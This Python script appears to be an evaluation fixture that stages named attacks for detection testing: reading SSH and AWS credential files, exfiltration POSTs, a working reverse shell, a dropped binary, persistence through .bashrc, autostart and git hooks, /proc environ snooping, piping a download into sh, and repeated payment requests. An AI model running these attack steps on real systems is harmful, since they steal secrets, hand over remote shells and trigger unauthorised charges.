"""One attack, as Python does it without starting anything that it need not start: attack.py NAME."""
import http.client
import os
import shutil
import socket
import subprocess
import sys

HOME = os.environ["HOME"]


def in_home(*names):
    return os.path.join(HOME, *names)


def address(name):
    host, port = os.environ[name].split(":")
    return host, int(port)


def ask(name, method, path, body=None):
    connection = http.client.HTTPConnection(*address(name))
    connection.request(method, path, body)
    text = connection.getresponse().read()
    connection.close()
    return text


def append(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "a", encoding="utf-8") as file:
        file.write(text)


def read_keys():
    for path in (in_home(".ssh", "id_ed25519"), in_home(".aws", "credentials"), in_home("work", ".env")):
        with open(path, "rb") as file:
            file.read()


def exfiltration():
    ask("EVAL_EXFILTRATION", "POST", "/upload", b"stolen")


def reverse_shell():
    with socket.create_connection(address("EVAL_REVERSE_SHELL")) as peer:
        subprocess.run(["/bin/sh", "-i"], stdin=peer, stdout=peer, stderr=peer, check=False)


def dropped_binary():
    path = os.environ["EVAL_DROPPED"]
    shutil.copy("/bin/true", path)
    os.chmod(path, 0o755)
    subprocess.run([path], check=True)
    os.unlink(path)


def persistence():
    append(in_home(".bashrc"), "/tmp/x &\n")
    append(in_home(".config", "autostart", "helper.desktop"), "Exec=/tmp/x\n")
    append(in_home("work", ".git", "hooks", "post-commit"), "/tmp/x &\n")


def proc_snooping():
    with open(f"/proc/{os.environ['EVAL_VICTIM']}/environ", "rb") as file:
        file.read()


def curl_sh():
    subprocess.run(["/bin/sh"], input=ask("EVAL_CURL_SH", "GET", "/install.sh"), check=True)


def payment_loop():
    for number in range(int(os.environ["EVAL_PAYMENTS"])):
        ask("EVAL_PAYMENT_LOOP", "POST", "/v1/payments", f"amount=1990&reference={number}")


globals()[sys.argv[1].replace("-", "_")]()
